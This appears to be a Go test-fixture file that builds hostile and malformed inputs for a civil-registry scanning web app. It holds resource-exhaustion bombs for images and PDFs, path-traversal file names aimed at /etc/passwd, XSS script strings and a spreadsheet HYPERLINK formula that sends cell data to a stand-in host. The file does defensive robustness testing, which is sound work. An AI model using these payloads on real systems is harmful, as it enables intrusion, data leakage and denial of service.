package badinput

import (
	"bytes"
	"net/url"
	"strings"
)

// Sizes the runners configure their servers with, so that "huge" stays quick to send.
const (
	// MaxUploadBytes is the upload limit the runners give the server.
	MaxUploadBytes = 2 << 20
	// hugeFile is over MaxUploadBytes; hugeForm is over the UI's 64 KB form limit.
	hugeFile = MaxUploadBytes + 1<<20
	hugeForm = 80 << 10
)

func file(b []byte) func() Input { return func() Input { return Input{Body: b} } }

func typed(b []byte, contentType string) func() Input {
	return func() Input { return Input{Body: b, ContentType: contentType} }
}

func named(b []byte, name string) func() Input {
	return func() Input { return Input{Body: b, FileName: name} }
}

func query(q string) func() Input { return func() Input { return Input{Body: PNG(7), Query: q} } }

func form(kv ...string) func() Input {
	return func() Input {
		v := url.Values{}
		for i := 0; i+1 < len(kv); i += 2 {
			v.Set(kv[i], kv[i+1])
		}
		return Input{Form: v}
	}
}

func rawForm(body, contentType string) func() Input {
	return func() Input { return Input{Body: []byte(body), ContentType: contentType} }
}

// Hostile strings used in field values.
var (
	script   = `<script>alert("x")</script><img src=x onerror=alert(1)>`
	formula  = `=HYPERLINK("http://x.invalid/?"&A1,"bấm")`
	longText = strings.Repeat("Nguyễn ", 2000)
	// nfd is "Nguyễn Thị Hoa" with its letters decomposed; zeroWidth hides U+200B and U+FEFF in it.
	nfd       = "Nguye\u0302\u0303n Thi\u0323 Hoa"
	zeroWidth = "Nguyễn\u200b Thị\ufeff Hoa"
	control   = "Nguyễn\x00 Thị\x1b[31m Hoa\r\n"
)

const multipartCT = "multipart/form-data; boundary=XyZ"

var inputs = map[string]func() Input{
	// Files: empty, truncated, damaged.
	"empty":            file(nil),
	"png-truncated-8":  file(cut(PNG(1), 0.01)),
	"png-truncated":    file(cut(PNG(1), 0.5)),
	"png-corrupt-idat": file(flipped(PNG(1))),
	"png-zero-size":    file(pngHeader(0, 0, 16)),
	"jpeg-soi-only":    file([]byte{0xff, 0xd8, 0xff}),
	"jpeg-truncated":   file(cut(JPEG(1), 0.3)),
	"jpeg-corrupt":     file(flipped(JPEG(1))),
	"tiff-header-only": file([]byte("II*\x00\x08\x00\x00\x00")),
	"tiff-truncated":   file(cut(tiffFile([]tiffDir{{width: 620, height: 877}}, 620*877), 0.6)),
	"tiff-bad-offset":  file([]byte("II*\x00\xff\xff\xff\x7f")),
	"pdf-header-only":  file([]byte("%PDF-1.4\n")),
	"pdf-truncated":    file(cut(PDF(2, 2, a4, a4), 0.5)),
	"pdf-no-pages":     file(PDF(0, 0, a4, a4)),
	"random":           file(bytes.Repeat([]byte{0x13, 0x37, 0xc0, 0xde}, 4096)),
	"zero-bytes-4k":    file(make([]byte, 4096)),
	"huge":             file(bytes.Repeat([]byte{0xff}, hugeFile)),
	// Bombs: sizes and counts that would take the machine's memory or time.
	"png-pixel-bomb":    file(pngHeader(100_000, 100_000, 4096)),
	"png-wide-bomb":     file(pngHeader(1<<30, 1, 4096)),
	"jpeg-pixel-bomb":   file(jpegSized(65_000, 65_000)),
	"tiff-pixel-bomb":   file(tiffFile([]tiffDir{{width: 1_000_000, height: 1_000_000}}, 64)),
	"tiff-ifd-loop":     file(tiffFile([]tiffDir{{width: 620, height: 877, selfNext: true}}, 620*877)),
	"tiff-subifd-loop":  file(tiffFile([]tiffDir{{width: 620, height: 877, subIFDLoop: true}}, 620*877)),
	"tiff-page-bomb":    file(tiffFile(make600(), 620*877)),
	"pdf-page-bomb":     file(PDF(600, 600, a4, a4)),
	"pdf-count-lies":    file(PDF(1, 1_000_000_000, a4, a4)),
	"pdf-mediabox-bomb": file(PDF(1, 1, [4]int{0, 0, 14400, 14400}, [4]int{0, 0, 14400, 14400})),
	"pdf-cropbox-hides": file(PDF(1, 1, [4]int{0, 0, 14400, 14400}, a4)),
	// Wrong kinds of file, and right files declared as something else.
	"gif":               file([]byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")),
	"html":              typed([]byte("<!doctype html><script>alert(1)</script>"), "text/html"),
	"svg-script":        typed([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "image/svg+xml"),
	"zip":               file([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00")),
	"json-as-file":      typed([]byte(`{"page":1}`), "application/json"),
	"png-declared-pdf":  typed(PNG(11), "application/pdf"),
	"jpeg-declared-png": typed(JPEG(12), "image/png"),
	// Multipart bodies: malformed, without the file, hostile file names.
	"multipart-no-boundary": typed(PNG(2), "multipart/form-data"),
	"multipart-truncated":   typed([]byte("--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n\r\n\x89PNG"), multipartCT),
	"multipart-no-file":     typed([]byte("--XyZ\r\nContent-Disposition: form-data; name=\"other\"\r\n\r\nx\r\n--XyZ--\r\n"), multipartCT),
	"multipart-empty":       typed([]byte("--XyZ--\r\n"), multipartCT),
	"name-traversal-bad":    named(cut(PNG(3), 0.5), "../../../../etc/passwd"),
	"name-traversal-good":   named(PNG(4), "../../../../tmp/x/../trang-0001.png"),
	"name-control-chars":    named(PNG(5), "trang\x00\x1b[2J\r\n-0001.png"),
	"name-nfd-zero-width":   named(PNG(6), "Trang\u200b so\u0302\u0301-0001.png"),
	"name-very-long":        named(PNG(8), strings.Repeat("a", 4000)+".png"),
	// The page number of an upload.
	"page-zero":     query("page=0"),
	"page-negative": query("page=-1"),
	"page-words":    query("page=m%E1%BB%99t"),
	"page-huge":     query("page=99999999999999999999"),
	"page-missing":  query("pages=1"),
	"page-twice":    query("page=1&page=2"),
	// JSON bodies of the station API.
	"json-truncated":     typed([]byte(`{"commune_code":"05461","kind":`), "application/json"),
	"json-array":         typed([]byte(`[1,2,3]`), "application/json"),
	"json-wrong-types":   typed([]byte(`{"commune_code":5461,"kind":"khai-sinh","book":1,"year_from":"1990"}`), "application/json"),
	"json-deep":          typed([]byte(strings.Repeat("[", 100_000)), "application/json"),
	"json-huge":          typed(append([]byte(`{"book":"`), bytes.Repeat([]byte("x"), 3<<20)...), "application/json"),
	"json-empty":         typed(nil, "application/json"),
	"json-script-book":   typed([]byte(`{"commune_code":"05461","kind":"khai-sinh","book":"`+jsonEscape(script)+`","year_from":1990,"year_to":1995}`), "application/json"),
	"json-long-book":     typed([]byte(`{"commune_code":"05461","kind":"khai-sinh","book":"`+strings.Repeat("9", 5000)+`","year_from":1990,"year_to":1995}`), "application/json"),
	"json-nul-book":      typed([]byte(`{"commune_code":"05461","kind":"khai-sinh","book":"01\u0000x","year_from":1990,"year_to":1995}`), "application/json"),
	"json-commune-path":  typed([]byte(`{"commune_code":"../05461","kind":"khai-sinh","book":"01","year_from":1990,"year_to":1995}`), "application/json"),
	"json-years-reverse": typed([]byte(`{"commune_code":"05461","kind":"khai-sinh","book":"01","year_from":1995,"year_to":1990}`), "application/json"),
	"json-two-objects":   typed([]byte(`{"commune_code":"05461","kind":"khai-sinh","book":"01","year_from":1990,"year_to":1995}{}`), "application/json"),
	// Forms: login.
	"login-empty":       form("username", "", "password", ""),
	"login-long":        form("username", longText, "password", longText),
	"login-control":     form("username", "canbo\x00admin", "password", "x\r\n"),
	"login-script":      form("username", script, "password", formula),
	"login-nfd":         form("username", nfd, "password", zeroWidth),
	"form-bad-encoding": rawForm("username=%zz&password=%", "application/x-www-form-urlencoded"),
	"form-huge":         rawForm("username="+strings.Repeat("a", hugeForm), "application/x-www-form-urlencoded"),
	"form-multipart":    rawForm("--XyZ\r\nContent-Disposition: form-data; name=\"username\"\r\n\r\ncanbo\r\n--XyZ--\r\n", multipartCT),
	"form-json":         rawForm(`{"username":"canbo"}`, "application/json"),
	// Forms: a ledger (one field changed from a good ledger).
	"ledger-script-book": form("book", script),
	"ledger-formula":     form("book", formula),
	"ledger-long-book":   form("book", longText),
	"ledger-control":     form("book", control),
	"ledger-zero-width":  form("book", "0\u200b1"),
	"ledger-year-words":  form("year_from", "một nghìn"),
	"ledger-year-huge":   form("year_to", "99999999999999999999"),
	"ledger-years-rev":   form("year_from", "1999", "year_to", "1990"),
	"ledger-kind":        form("kind", "../../etc"),
	"ledger-commune":     form("commune", "../../etc/passwd", "commune_code", "../x"),
	"ledger-negative":    form("expected_entries", "-5"),
	// Forms: an entry's review (one field changed from the entry as read).
	"entry-script":      form("f.full_name", script),
	"entry-formula":     form("f.father_name", formula),
	"entry-long":        form("f.full_name", longText),
	"entry-control":     form("f.full_name", control),
	"entry-nfd":         form("f.full_name", nfd),
	"entry-zero-width":  form("f.full_name", zeroWidth),
	"entry-date-feb-31": form("f.birth_date", "31/02/1996"),
	"entry-date-words":  form("f.registration_date", "<b>hôm qua</b>"),
	"entry-version-bad": form("version", "x"),
	"entry-version-old": form("version", "0"),
	"entry-unknown-fld": form("f.../../etc/passwd", "x"),
}

func make600() []tiffDir {
	d := make([]tiffDir, 600)
	for i := range d {
		d[i] = tiffDir{width: 620, height: 877}
	}
	return d
}

func jsonEscape(s string) string { return strings.ReplaceAll(s, `"`, `\"`) }
